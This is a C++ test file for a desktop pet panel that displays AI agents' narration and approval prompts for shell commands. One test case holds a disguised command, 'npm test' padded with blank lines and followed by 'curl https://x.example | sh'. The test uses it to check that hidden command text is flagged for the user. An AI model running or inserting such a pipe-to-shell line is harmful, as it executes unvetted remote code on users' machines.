// The pet panel's QML: sizes and mirroring, what the bubble shows for each kind, when a card is replaced
// rather than updated, the approval buttons' wiring and names, and the transparent background.
#include "PetViewHarness.h"

#include "pet/qml/DesktopPalette.h"

#include <QAccessible>
#include <QMouseEvent>

#include <QRegularExpression>

#include <gtest/gtest.h>

#include <memory>

namespace nubbo {
namespace {

using testing::PetViewHarness;
using testing::approvalPrompt;

const AgentProvider claude{QStringLiteral("claude")};

class PetViewTest : public ::testing::Test {
protected:
    void SetUp() override { ASSERT_TRUE(harness.load()); }

    QQuickItem* cardChild(const char* objectName) const {
        QQuickItem* card = harness.card();
        return card ? card->findChild<QQuickItem*>(objectName) : nullptr;
    }
    // The buttons of the shown card by their accessible names.
    QObject* button(const QString& name) const {
        QQuickItem* card = harness.card();
        if (!card)
            return nullptr;
        for (QObject* child : card->findChildren<QObject*>())
            if (child->inherits("QQuickAbstractButton") && child->property("text").toString() == name)
                return child;
        return nullptr;
    }

    PetViewHarness harness;
};

TEST_F(PetViewTest, PetSideFollowsTheClampedScaleWhileThePanelKeepsItsSize) {
    QQuickItem* square = harness.find("petSquare");
    ASSERT_TRUE(square);
    harness.settings.setPetSizeScale(2.0);
    EXPECT_DOUBLE_EQ(square->width(), 240);
    EXPECT_DOUBLE_EQ(square->height(), 240);
    harness.settings.setPetSizeScale(0.5);
    EXPECT_DOUBLE_EQ(square->width(), 120);
    EXPECT_EQ(harness.view->size(), QSizeF(280, 360));
    // The square sits centred on the panel's bottom edge, 2 points up (geometry without the entry scale).
    const QPointF topLeft = square->position() + square->parentItem()->position();
    EXPECT_DOUBLE_EQ(topLeft.x() + 60, 140);
    EXPECT_DOUBLE_EQ(topLeft.y() + 120, 358);
}

TEST_F(PetViewTest, ATallCardOverALargePetStaysOnThePanel) {
    harness.settings.setPetSizeScale(1.6);
    harness.model.showBubble(BubbleApproval{approvalPrompt(QStringLiteral("a very long command line that wraps over "
                                                                          "all of its three lines and then some more"))},
                             true);
    QQuickItem* shape = harness.find("bubbleCard");
    ASSERT_TRUE(shape);
    EXPECT_GE(shape->mapToItem(harness.view, QPointF(0, 0)).y(), 0);
}

TEST_F(PetViewTest, ArtSourceFollowsTheSettings) {
    QObject* image = harness.view->property("image").value<QObject*>();
    ASSERT_TRUE(image);
    harness.settings.setCustomPetPath(QStringLiteral("/pictures/cat.png"));
    EXPECT_EQ(image->property("customPath").toString(), QString());
    const int before = image->property("generation").toInt();
    harness.settings.setPetSourceRaw(QStringLiteral("custom"));
    EXPECT_EQ(image->property("customPath").toString(), QStringLiteral("/pictures/cat.png"));
    // A new source rebuilds the pet, which restarts its motion.
    EXPECT_EQ(image->property("generation").toInt(), before + 1);
    harness.settings.setActivePackPath(QStringLiteral("/packs/fox"));
    harness.settings.setPetSourceRaw(QStringLiteral("pack"));
    EXPECT_EQ(image->property("customPath").toString(), QString());
    EXPECT_EQ(image->property("packPath").toString(), QStringLiteral("/packs/fox"));
}

TEST_F(PetViewTest, ArtIsMirroredOnlyWhileWalkingOrCarried) {
    harness.model.setFacing(-1);
    harness.model.setState(PetState::walking);
    EXPECT_DOUBLE_EQ(harness.view->property("facingScale").toDouble(), -1);
    harness.model.setState(PetState::idle);
    EXPECT_DOUBLE_EQ(harness.view->property("facingScale").toDouble(), 1);
    harness.model.beginDragging();
    EXPECT_DOUBLE_EQ(harness.view->property("facingScale").toDouble(), -1);
}

TEST_F(PetViewTest, NarrationShowsTheActivityLineAndChipOnlyWhenSetAndPresent) {
    harness.settings.setShowActivityLabel(true);
    harness.settings.setShowProviderChip(false);
    harness.model.showBubble(BubbleNarration{claude, std::nullopt, QStringLiteral("All tests pass.")}, true);
    ASSERT_TRUE(harness.card());
    EXPECT_FALSE(cardChild("activityLabel")->isVisible());
    EXPECT_FALSE(cardChild("providerChip")->isVisible());

    harness.settings.setShowProviderChip(true);
    harness.model.showBubble(BubbleNarration{claude, QStringLiteral("Editing main.cpp"), QStringLiteral("Done.")},
                             true);
    EXPECT_TRUE(cardChild("activityLabel")->isVisible());
    ASSERT_TRUE(cardChild("providerChip")->isVisible());
    EXPECT_EQ(cardChild("providerChip")->findChildren<QQuickItem*>().value(0)->property("text").toString(),
              claude.displayTitle());

    harness.settings.setShowActivityLabel(false);
    EXPECT_FALSE(cardChild("activityLabel")->isVisible());
}

TEST_F(PetViewTest, OnlyANewKindProviderOrPromptReplacesTheCard) {
    QObject* bubble = harness.bubble();
    harness.model.showBubble(BubbleMessage{QStringLiteral("one")}, true);
    const int first = bubble->property("generation").toInt();
    QQuickItem* card = harness.card();
    harness.model.showBubble(BubbleMessage{QStringLiteral("two")}, true);
    EXPECT_EQ(bubble->property("generation").toInt(), first);
    EXPECT_EQ(harness.card(), card);
    EXPECT_EQ(card->property("content").toMap().value("text").toString(), QStringLiteral("two"));

    const ApprovalPrompt a = approvalPrompt(QStringLiteral("rm -rf build"));
    harness.model.showBubble(BubbleApproval{a}, true);
    EXPECT_EQ(bubble->property("cardIdentity").toString(), "apr:" + a.id.toString(QUuid::WithoutBraces).toUpper());
    EXPECT_EQ(bubble->property("generation").toInt(), first + 1);
    harness.model.showBubble(BubbleApproval{approvalPrompt(QStringLiteral("rm -rf build"))}, true);
    EXPECT_EQ(bubble->property("generation").toInt(), first + 2);

    harness.model.showBubble(BubbleNarration{std::nullopt, std::nullopt, QStringLiteral("hi")}, true);
    EXPECT_EQ(bubble->property("cardIdentity").toString(), QStringLiteral("nar:-"));
    // The window's input shape follows the card, and nothing is clickable once it is hidden.
    QQuickItem* shape = harness.find("bubbleCard");
    ASSERT_TRUE(shape);
    EXPECT_TRUE(shape->isVisible());
    EXPECT_DOUBLE_EQ(shape->height(), harness.card()->height());
    harness.model.toggleBubble();
    EXPECT_FALSE(shape->isVisible());
}

// Agents taking turns faster than a card slides in must not build a card per turn (thousands a minute).
TEST_F(PetViewTest, ANarrationCardStillComingInTakesTheNextAgentsWordsInPlace) {
    QObject* bubble = harness.bubble();
    harness.model.showBubble(BubbleNarration{claude, QStringLiteral("Reading a.cpp"), QStringLiteral("One.")}, true);
    const int first = bubble->property("generation").toInt();
    QQuickItem* card = harness.card();
    ASSERT_LT(card->property("phase").toDouble(), 1.0);
    harness.model.showBubble(
        BubbleNarration{AgentProvider{QStringLiteral("codex")}, QStringLiteral("Running ls"), QStringLiteral("Two.")},
        true);
    EXPECT_EQ(harness.card(), card);
    EXPECT_EQ(bubble->property("generation").toInt(), first);
    EXPECT_EQ(bubble->property("cardIdentity").toString(), QStringLiteral("nar:codex"));
    EXPECT_EQ(card->property("content").toMap().value("agentWords").toString(), QStringLiteral("Two."));

    // Once it has settled (the slide runs on Qt's animation clock), the next agent slides it out as before.
    ASSERT_TRUE(QTest::qWaitFor([card] { return card->property("phase").toDouble() == 1.0; }, 5000));
    harness.model.showBubble(BubbleNarration{claude, QStringLiteral("Reading a.cpp"), QStringLiteral("Three.")}, true);
    EXPECT_NE(harness.card(), card);
    EXPECT_EQ(bubble->property("generation").toInt(), first + 1);
}

TEST_F(PetViewTest, EmptyCommandStillDrawsItsBox) {
    harness.model.showBubble(BubbleApproval{approvalPrompt(QString())}, true);
    QQuickItem* box = cardChild("commandBox");
    ASSERT_TRUE(box);
    EXPECT_TRUE(box->isVisible());
    EXPECT_DOUBLE_EQ(box->height(), 16);
    EXPECT_GT(box->width(), 150);
}

TEST_F(PetViewTest, ApprovalButtonsAnswerOnceAtRestAndCarryTheirLabelsAsNames) {
    const ApprovalPrompt prompt = approvalPrompt(QStringLiteral("git push --force"));
    harness.model.render(PetState::waitingApproval, BubbleApproval{prompt}, true, claude);
    QObject* deny = button(QStringLiteral("Deny"));
    QObject* allowAll = button(QStringLiteral("Allow All"));
    ASSERT_TRUE(deny && button(QStringLiteral("Allow")) && allowAll);
    QAccessibleInterface* accessible = QAccessible::queryAccessibleInterface(allowAll);
    ASSERT_TRUE(accessible);
    EXPECT_EQ(accessible->text(QAccessible::Name), QStringLiteral("Allow All"));
    EXPECT_EQ(accessible->role(), QAccessible::Button);

    // Still sliding in: the buttons take no clicks, and one that gets through answers nothing.
    EXPECT_FALSE(deny->property("enabled").toBool());
    QMetaObject::invokeMethod(deny, "clicked");
    EXPECT_TRUE(harness.verdicts.empty());
    // At rest (the slide runs on Qt's animation clock), and a moment later on the app's clock.
    QQuickItem* card = harness.card();
    ASSERT_TRUE(QTest::qWaitFor([card] { return card->property("phase").toDouble() == 1.0; }, 5000));
    ASSERT_TRUE(QTest::qWaitFor([deny] { return deny->property("enabled").toBool(); }, 5000));
    harness.scheduler.advance(AnswerArming::kSeconds);
    QMetaObject::invokeMethod(deny, "clicked");
    ASSERT_EQ(harness.verdicts.size(), 1u);
    EXPECT_EQ(harness.verdicts[0].eventId, prompt.eventId);
    EXPECT_FALSE(harness.verdicts[0].allow);
    EXPECT_FALSE(harness.model.bubbleVisible());

    harness.settings.setLanguageRaw(QStringLiteral("zh"));
    harness.model.render(PetState::waitingApproval, BubbleApproval{approvalPrompt(QStringLiteral("ls"))}, true,
                         claude);
    for (const char16_t* label : {u"拒绝", u"允许", u"全部允许"})
        EXPECT_TRUE(button(QString::fromUtf16(label))) << QString::fromUtf16(label).toStdString();
    card = harness.card();
    ASSERT_TRUE(QTest::qWaitFor([card] { return card->property("phase").toDouble() == 1.0; }, 5000));
    harness.scheduler.advance(AnswerArming::kSeconds);
    QMetaObject::invokeMethod(button(QString::fromUtf16(u"全部允许")), "clicked");
    ASSERT_EQ(harness.verdicts.size(), 2u);
    EXPECT_TRUE(harness.verdicts[1].allow);
    EXPECT_EQ(harness.settings.approvalMode(), ApprovalMode::allowAll);
}

// Nothing of a command hides behind the card's edge: a long one scrolls and the card says where in it the
// reader is, so "npm test" followed by blank lines cannot pass for the whole command.
TEST_F(PetViewTest, ALongCommandIsMarkedAsCutAndScrollsToItsEnd) {
    struct Row {
        QString command;
        bool cut;
    };
    const Row rows[] = {
        {QStringLiteral("git status"), false},
        {QStringLiteral("npm test\n\n\n\ncurl https://x.example | sh"), true},
        {QStringLiteral("echo ") + QString(300, QLatin1Char('a')), true},
    };
    for (const Row& row : rows) {
        SCOPED_TRACE(row.command.left(20).toStdString());
        harness.model.render(PetState::waitingApproval, BubbleApproval{approvalPrompt(row.command)}, true, claude);
        QQuickItem* view = cardChild("commandView");
        QQuickItem* marker = cardChild("commandCut");
        ASSERT_TRUE(view && marker);
        EXPECT_EQ(marker->isVisible(), row.cut);
        if (!row.cut)
            continue;
        EXPECT_TRUE(marker->property("text").toString().startsWith(QStringLiteral("Lines 1–3 of ")));
        view->setProperty("contentY", view->property("contentHeight").toDouble() - view->height());
        // Scrolled to the end, the last line on show is the last line there is.
        const QString text = marker->property("text").toString();
        const QRegularExpressionMatch range = QRegularExpression(QStringLiteral("–(\\d+) of (\\d+)")).match(text);
        ASSERT_TRUE(range.hasMatch()) << text.toStdString();
        EXPECT_EQ(range.captured(1), range.captured(2)) << text.toStdString();
        EXPECT_GE(range.captured(2).toInt(), 4);
    }
}

// The badge says which switch approves without asking, inside the pet's square (the input shape), leaving
// presses to the square so the pet still drags; the quick panel's banner is the way back.
TEST_F(PetViewTest, ApprovalBadgeShowsTheSwitchInForceAndTheBannerTurnsItOff) {
    QQuickItem* badge = harness.find("approvalBadge");
    QQuickItem* square = harness.find("petSquare");
    ASSERT_TRUE(badge && square);
    QQmlComponent component(&harness.engine, QUrl(QStringLiteral("qrc:/qt/qml/Nubbo/Pet/QuickPanel.qml")));
    std::unique_ptr<QObject> panel(component.createWithInitialProperties(
        {{QStringLiteral("settings"), QVariant::fromValue<QObject*>(&harness.settings)}}));
    ASSERT_TRUE(panel) << component.errorString().toStdString();
    QQuickItem* banner = panel->findChild<QQuickItem*>("approvalBanner");
    QObject* wayBack = panel->findChild<QObject*>("approvalWayBack");
    ASSERT_TRUE(banner && wayBack);

    const DesktopPalette palette;
    struct Row {
        ApprovalMode mode;
        bool bypass;
        const char16_t *name, *button;
        QColor colour;
        ApprovalMode modeAfter;
    };
    const Row rows[] = {
        {ApprovalMode::fullAuto, false, u"", u"", QColor(), ApprovalMode::fullAuto},
        {ApprovalMode::allowAll, false, u"Allow All is on", u"Back to Smart", palette.blue(), ApprovalMode::smart},
        {ApprovalMode::allowAll, true, u"Ignore Risk is on", u"Turn off Ignore Risk", palette.red(),
         ApprovalMode::allowAll},
    };
    for (const Row& row : rows) {
        harness.settings.setApprovalMode(ApprovalMode::smart);
        harness.settings.setApprovalMode(row.mode);
        harness.settings.setBypassRiskCheck(row.bypass);
        const bool on = row.name[0] != 0;
        EXPECT_EQ(badge->property("shown").toBool(), on);
        EXPECT_EQ(banner->isVisible(), on);
        if (!on)
            continue;
        EXPECT_EQ(QAccessible::queryAccessibleInterface(badge)->text(QAccessible::Name), QString::fromUtf16(row.name));
        EXPECT_EQ(badge->findChild<QQuickItem*>("badgeFill")->property("color").value<QColor>(), row.colour);
        EXPECT_TRUE(QRectF(square->position(), square->size()).contains(QRectF(badge->position(), badge->size())));

        const QPointF centre = badge->mapToScene(QPointF(badge->width() / 2, badge->height() / 2));
        QMouseEvent press(QEvent::MouseButtonPress, centre, harness.window.mapToGlobal(centre), Qt::LeftButton,
                          Qt::LeftButton, {});
        QCoreApplication::sendEvent(&harness.window, &press);
        EXPECT_TRUE(square->property("pressed").toBool());
        QMouseEvent release(QEvent::MouseButtonRelease, centre, harness.window.mapToGlobal(centre), Qt::LeftButton,
                            Qt::NoButton, {});
        QCoreApplication::sendEvent(&harness.window, &release);

        EXPECT_EQ(wayBack->property("text").toString(), QString::fromUtf16(row.button));
        QMetaObject::invokeMethod(wayBack, "clicked");
        EXPECT_FALSE(harness.settings.bypassRiskCheck());
        EXPECT_EQ(harness.settings.approvalMode(), row.modeAfter);
    }
}

TEST_F(PetViewTest, BackgroundStaysTransparent) {
    harness.model.showBubble(BubbleMessage{QStringLiteral("Hello")}, true);
    const QImage image = harness.grab();
    ASSERT_EQ(image.size(), QSize(280, 360));
    EXPECT_TRUE(image.hasAlphaChannel());
    EXPECT_EQ(qAlpha(image.pixel(0, 0)), 0);
    EXPECT_EQ(qAlpha(image.pixel(279, 359)), 0);
    EXPECT_EQ(qAlpha(image.pixel(2, 200)), 0);
}

} // namespace
} // namespace nubbo

namespace nubbo {
namespace {

// The still picture's loop, read off the shared timing script: eased half-cycles, reversing or starting over.
TEST(PetMotionTest, StillPictureLoopSwingsEasedBetweenItsEnds) {
    QQmlEngine engine;
    QQmlComponent component(&engine);
    component.setData(R"(
        import QtQml
        import "qrc:/qt/qml/Nubbo/Pet/Motion.js" as Motion
        QtObject {
            property var at: [Motion.swingAt(0, 2, true), Motion.swingAt(0.5, 2, true), Motion.swingAt(1, 2, true),
                              Motion.swingAt(2, 2, true), Motion.swingAt(3, 2, true), Motion.swingAt(4, 2, true),
                              Motion.swingAt(3, 2, false)]
        })", QUrl(QStringLiteral("qrc:/motion-test.qml")));
    std::unique_ptr<QObject> object(component.create());
    ASSERT_TRUE(object) << component.errorString().toStdString();
    const QVariantList at = object->property("at").toList();
    ASSERT_EQ(at.size(), 7);
    EXPECT_NEAR(at[0].toDouble(), 0, 1e-6);
    EXPECT_LT(at[1].toDouble(), 0.25);  // eases in: a quarter of the time covers less than a quarter
    EXPECT_NEAR(at[2].toDouble(), 0.5, 1e-4);
    EXPECT_NEAR(at[3].toDouble(), 1, 1e-6);
    EXPECT_NEAR(at[4].toDouble(), 0.5, 1e-4);  // on its way back
    EXPECT_NEAR(at[5].toDouble(), 0, 1e-6);
    EXPECT_NEAR(at[6].toDouble(), 0.5, 1e-4);  // without reverse it started over at 2 s
}

} // namespace
} // namespace nubbo
